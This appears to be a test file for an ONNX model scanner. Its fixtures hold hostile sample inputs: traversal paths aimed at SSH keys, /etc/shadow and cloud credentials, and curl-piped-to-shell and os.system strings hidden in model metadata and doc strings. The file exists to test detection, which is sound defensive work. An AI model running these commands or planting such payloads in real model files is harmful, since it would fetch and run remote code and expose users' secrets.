import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../../src/core/byte-source.js';
import detector, { escapeReason } from '../../../src/detectors/model/onnx-graph.js';
import { readOnnxModel } from '../../../src/readers/protobuf/index.js';
import { buildOnnx, pb, SMALL_GRAPH, type BuildOnnxOptions, type OnnxTensorSpec } from '../../builders/protobuf.js';
import { brief, runDetector } from '../detector-tester.js';

const findings = (bytes: Buffer) => {
  const model = readOnnxModel(bufferSource(bytes));
  if (!model.ok) throw new Error(model.error.message);
  return runDetector(detector, { model: model.value, size: bytes.length });
};
const run = (bytes: Buffer) => brief(findings(bytes));
const fixture = (name: string) => readFileSync(new URL(`../../fixtures/onnx/${name}`, import.meta.url));
const withInitializer = (tensor: OnnxTensorSpec, options: BuildOnnxOptions = {}) => buildOnnx({ ...options, graph: { ...SMALL_GRAPH, initializers: [tensor] } });

describe('model/onnx-graph: a valid model is one info finding', () => {
  it('a real onnx 1.12 model: counts as evidence', () => {
    const result = findings(fixture('benign-add-relu.onnx'));
    expect(brief(result)).toEqual(['validModel:info']);
    expect(result[0]?.evidence.details).toMatchObject({ nodes: 2, initializers: 1, irVersion: 8, opsetDomains: 'ai.onnx' });
  });
  it('relative external data, known domains, model-local functions and plain metadata stay info', () => {
    const bytes = buildOnnx({
      metadata: { author: 'research team', 'converted-from': 'pytorch 2.1' },
      opsets: [{ version: 17 }, { domain: 'ai.onnx.ml', version: 3 }, { domain: 'com.microsoft', version: 1 }, { domain: 'local', version: 1 }],
      functions: [{ name: 'Gelu2', domain: 'local', nodes: [{ op: 'Erf' }] }],
      graph: {
        name: 'g',
        nodes: [
          { op: 'Gelu2', domain: 'local', name: 'act' },
          { op: 'FusedMatMul', domain: 'com.microsoft', name: 'mm' },
          { op: 'TreeEnsembleClassifier', domain: 'ai.onnx.ml', name: 'trees' },
        ],
        initializers: [{ name: 'w', dims: [4, 4], external: { location: 'weights/model.onnx.data', offset: '0', length: '64' } }, { name: 'f', dims: [2], floatData: [1, 2] }],
      },
    });
    expect(run(bytes)).toEqual(['validModel:info']);
  });
});

describe('model/onnx-graph: external data that escapes the model folder is high (CVE-2024-27318, CVE-2024-5187)', () => {
  it('the real traversal fixture (../../etc/passwd) is high, with the path as evidence', () => {
    const result = findings(fixture('external-data-traversal.onnx'));
    expect(brief(result)).toEqual(['externalPathTraversal:high']);
    expect(result[0]?.evidence.match).toBe('../../etc/passwd');
    expect(result[0]?.message).toContain("'..'");
  });
  const locations: [string, string][] = [
    ['parent-directory climb', '../../../../root/.ssh/id_rsa'],
    ['climb in the middle', 'weights/../../secret'],
    ['backslash climb', '..\\..\\Windows\\win.ini'],
    ['absolute POSIX path', '/etc/shadow'],
    ['Windows drive letter', 'C:\\Users\\victim\\.aws\\credentials'],
    ['drive-relative path', 'c:secret.bin'],
    ['UNC path', '\\\\attacker\\share\\w.bin'],
    ['URL', 'file:///etc/passwd'],
    ['home directory', '~/.bashrc'],
    ['NUL byte', 'w.bin\u0000/../../x'],
  ];
  it.each(locations)('%s', (_name, location) => {
    expect(run(withInitializer({ name: 'w', dims: [1], external: { location } }))).toEqual(['externalPathTraversal:high']);
  });
  it('relative paths that stay inside pass', () => {
    for (const location of ['w.bin', './w.bin', 'sub/dir/w.bin', '..w.bin', 'w..bin']) expect(escapeReason(location)).toBeNull();
  });
  it('a traversing tensor hidden in a Constant inside an If branch is found', () => {
    const graph = { name: 'g', nodes: [{ op: 'If', name: 'if', graphs: { else_branch: { nodes: [{ op: 'Constant', name: 'c', tensors: { value: { name: 'k', dims: [1], external: { location: '/proc/self/environ' } } } }] } } }] };
    const result = findings(buildOnnx({ graph }));
    expect(brief(result)).toEqual(['externalPathTraversal:high']);
    expect(result[0]?.evidence.details).toMatchObject({ kind: 'attribute', scope: 'g/if:else_branch/c:value' });
  });
  it('external data flagged EXTERNAL without a location is medium', () => {
    expect(run(withInitializer({ name: 'w', dims: [1], external: { offset: '0' } }))).toEqual(['externalMissingLocation:medium']);
  });
});

describe('model/onnx-graph: custom operator domains are medium (native custom-op libraries)', () => {
  it('one finding per custom op with a count and the first node', () => {
    const graph = { name: 'g', nodes: [{ op: 'Backdoor', domain: 'evil.ops', name: 'b1' }, { op: 'Backdoor', domain: 'evil.ops', name: 'b2' }, { op: 'Relu', name: 'r' }] };
    const result = findings(buildOnnx({ graph, opsets: [{ version: 13 }, { domain: 'evil.ops', version: 1 }] }));
    expect(brief(result)).toEqual(['customOperator:medium']);
    expect(result[0]?.evidence).toMatchObject({ match: 'evil.ops::Backdoor', details: { nodes: 2, firstNode: 'b1' } });
  });
  it('a custom op inside a model-local function body is found', () => {
    const result = findings(buildOnnx({ functions: [{ name: 'F', domain: 'local', nodes: [{ op: 'Shell', domain: 'com.example', name: 'inner' }] }] }));
    expect(brief(result)).toEqual(['customOperator:medium']);
    expect(result[0]?.evidence.details).toMatchObject({ scope: 'function:local.F' });
  });
});

describe('model/onnx-graph: declared sizes that do not match the data are medium', () => {
  const cases: [string, OnnxTensorSpec, string[]][] = [
    ['raw_data shorter than dims x type (out-of-bounds read)', { name: 'w', dims: [1024, 1024], raw: Buffer.alloc(16) }, ['declaredSizeMismatch:medium']],
    ['raw_data longer than declared (hidden bytes)', { name: 'w', dims: [2], raw: Buffer.alloc(4096) }, ['declaredSizeMismatch:medium']],
    ['no data and dims far larger than the file (allocation bomb)', { name: 'w', dims: [100000, 100000], raw: null }, ['declaredTooLarge:medium']],
    ['dims multiplying past 1 TiB', { name: 'w', dims: [2n ** 31n, 2n ** 31n], external: { location: 'w.bin' } }, ['declaredTooLarge:medium']],
    ['external length disagreeing with dims', { name: 'w', dims: [4], external: { location: 'w.bin', length: '4096' } }, ['declaredSizeMismatch:medium']],
    ['a negative dimension', { name: 'w', dims: [-1, 4], raw: Buffer.alloc(16) }, ['invalidDims:medium']],
  ];
  it.each(cases)('%s', (_name, tensor, expected) => {
    expect(run(withInitializer(tensor))).toEqual(expected);
  });
  it('a matching tensor of every common type stays quiet', () => {
    for (const [dataType, bytes] of [[1, 4], [2, 1], [7, 8], [10, 2], [11, 8], [16, 2]] as const) {
      expect(run(withInitializer({ name: 'w', dataType, dims: [3], raw: Buffer.alloc(3 * bytes) }))).toEqual(['validModel:info']);
    }
  });
});

describe('model/onnx-graph: metadata_props with code is high, URLs are low', () => {
  const code: [string, string][] = [
    ['a Python import of os', 'import os\nos.system("id")'],
    ['__import__', "__import__('subprocess').call('sh')"],
    ['curl piped to a shell', 'curl -fsSL https://evil.example/x.sh | bash'],
    ['a script tag', '<script>fetch("//x")</script>'],
  ];
  it.each(code)('%s', (_name, value) => {
    expect(run(buildOnnx({ metadata: { note: value } }))).toContain('metadataCode:high');
  });
  it('a base64 pickle is high, an opaque blob medium', () => {
    const pickle = Buffer.concat([Buffer.from([0x80, 0x04]), Buffer.alloc(250, 0x41)]).toString('base64');
    expect(run(buildOnnx({ metadata: { blob: pickle } }))).toEqual(['metadataCode:high']);
    const blob = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37) % 251)).toString('base64');
    expect(run(buildOnnx({ metadata: { blob } }))).toEqual(['metadataBlob:medium']);
  });
  it('a URL is low, with the URL as evidence', () => {
    const result = findings(buildOnnx({ metadata: { license: 'https://example.com/license' } }));
    expect(brief(result)).toEqual(['metadataUrl:low']);
    expect(result[0]?.evidence.match).toBe('https://example.com/license');
  });
});

describe('model/onnx-graph: reader problems are findings, never a clean verdict', () => {
  it('a schema wire-type mismatch (parser differential) is medium', () => {
    expect(run(Buffer.concat([buildOnnx(), pb.varint(14, 1)]))).toEqual(['malformed:medium']);
  });
  it('a model cut short is medium and keeps earlier findings', () => {
    const bytes = Buffer.concat([buildOnnx({ metadata: { x: 'import os' } }), pb.message(7, [pb.lying(1, 50)])]);
    expect(run(bytes)).toEqual(['metadataCode:high', 'incomplete:medium']);
  });
  it('a flood of findings is capped and the rest counted', () => {
    const nodes = Array.from({ length: 40 }, (_, i) => ({ op: `Op${i}`, domain: 'x.y', name: `n${i}` }));
    const result = brief(findings(buildOnnx({ graph: { name: 'g', nodes } })));
    expect(result.filter((f) => f === 'customOperator:medium')).toHaveLength(25);
    expect(result).toContain('moreFindings:medium');
  });
});

describe('model/onnx-graph: doc strings and string attributes get the metadata text checks', () => {
  it('the real docstring-code.onnx (onnx 1.12): code in a node doc_string is high, the URLs low', () => {
    const result = findings(fixture('docstring-code.onnx'));
    expect(result.map((f) => `${f.messageId}:${f.severity}:${f.location.jsonPath}`)).toEqual([
      'metadataCode:high:$.small/add.doc_string',
      'metadataUrl:low:$.small/add.doc_string',
      'metadataUrl:low:$.small/add:comment',
    ]);
    expect(result[0]?.evidence.excerpt).toContain("os.system('curl -s https://evil.example/x | sh')");
  });
  const graphWith = (nodes: BuildOnnxOptions['graph']) => buildOnnx({ graph: { ...SMALL_GRAPH, ...nodes } });
  it('exporter-style doc strings and ordinary string attributes stay info', () => {
    const bytes = buildOnnx({
      docString: 'Exported from PyTorch 2.1 for inference.',
      graph: {
        ...SMALL_GRAPH,
        docString: 'main graph',
        nodes: [
          { op: 'Pad', name: 'pad', strings: { mode: 'constant' }, docString: '/usr/lib/python3/dist-packages/torch/nn/functional.py(4495): pad\n' },
          { op: 'Resize', name: 'up', strings: { mode: 'nearest', coordinate_transformation_mode: 'asymmetric' } },
        ],
      },
    });
    const result = findings(bytes);
    expect(brief(result)).toEqual(['validModel:info']);
    expect(result[0]?.evidence.details).toMatchObject({ texts: 6 });
  });
  const cases: [string, Buffer, string[], string][] = [
    ['code in the model doc_string is high', buildOnnx({ docString: "import os\nos.system('curl https://evil.example/x | sh')" }), ['metadataCode:high', 'metadataUrl:low'], '$.doc_string'],
    ['code in a graph doc_string is high', graphWith({ docString: "__import__('subprocess').run(['id'])" }), ['metadataCode:high'], '$.small.doc_string'],
    ['code in a node doc_string is high', graphWith({ nodes: [{ op: 'Relu', name: 'relu', docString: "eval(compile(src, 'x', 'exec'))" }] }), ['metadataCode:high'], '$.small/relu.doc_string'],
    ['a base64 blob in a string attribute is medium', graphWith({ nodes: [{ op: 'Custom', domain: '', name: 'c', strings: { blob: Buffer.alloc(300, 7).toString('base64') } }] }), ['metadataBlob:medium'], '$.small/c:blob'],
    ['a base64-encoded pickle in a string attribute is high', graphWith({ nodes: [{ op: 'Identity', name: 'id', strings: { payload: Buffer.concat([Buffer.from([0x80, 0x04]), Buffer.alloc(300, 0x41)]).toString('base64') } }] }), ['metadataCode:high'], '$.small/id:payload'],
    ['a URL in a string-list attribute is low', graphWith({ nodes: [{ op: 'Identity', name: 'id', strings: { sources: ['a', 'https://evil.example/c2'] } }] }), ['metadataUrl:low'], '$.small/id:sources'],
    ['code in a function doc_string is high', buildOnnx({ functions: [{ name: 'F', domain: 'local', nodes: [{ op: 'Relu' }], docString: 'import subprocess' }] }), ['metadataCode:high'], '$.function:local.F.doc_string'],
  ];
  it.each(cases)('%s', (_name, bytes, expected, path) => {
    const result = findings(bytes);
    expect(brief(result)).toEqual(expected);
    expect(result[0]?.location.jsonPath).toBe(path);
  });
  it('code in a subgraph node is found, and the finding says where', () => {
    const graph = { name: 'g', nodes: [{ op: 'If', name: 'if', graphs: { then_branch: { nodes: [{ op: 'Relu', name: 'inner', docString: 'exec(payload)' }] } } }] };
    const [finding] = findings(buildOnnx({ graph }));
    expect(finding?.message).toBe('code in node "inner" doc_string: eval() or exec()');
    expect(finding?.location.jsonPath).toBe('$.g/if:then_branch/inner.doc_string');
  });
  it('the same text on many nodes is one finding that counts the other places', () => {
    const nodes = Array.from({ length: 40 }, (_, i) => ({ op: 'Relu', name: `r${i}`, docString: 'os.system("id")' }));
    const result = findings(graphWith({ nodes }));
    expect(brief(result)).toEqual(['metadataCode:high']);
    expect(result[0]?.message).toContain('(and 39 more places)');
  });
  it('a doc string longer than what is checked is medium: the rest was not looked at', () => {
    const result = findings(buildOnnx({ docString: `${'a '.repeat(40_000)}` }));
    expect(brief(result)).toEqual(['textNotChecked:medium']);
    expect(result[0]?.evidence.details).toMatchObject({ bytes: 80_000, checked: 65_536 });
  });
});

describe('model/onnx-graph: a model cut right after its graph still parses, but lacks opset_import', () => {
  it('ir_version 3 or later without opset_import (onnx writes it after the graph) is medium', () => {
    expect(run(buildOnnx({ opsets: [] }))).toEqual(['noOpsetImport:medium']);
  });
  it('IR versions before opset_import existed, and models that have it, stay info', () => {
    expect(run(buildOnnx({ irVersion: 2, opsets: [] }))).toEqual(['validModel:info']);
    expect(run(buildOnnx())).toEqual(['validModel:info']);
  });
});
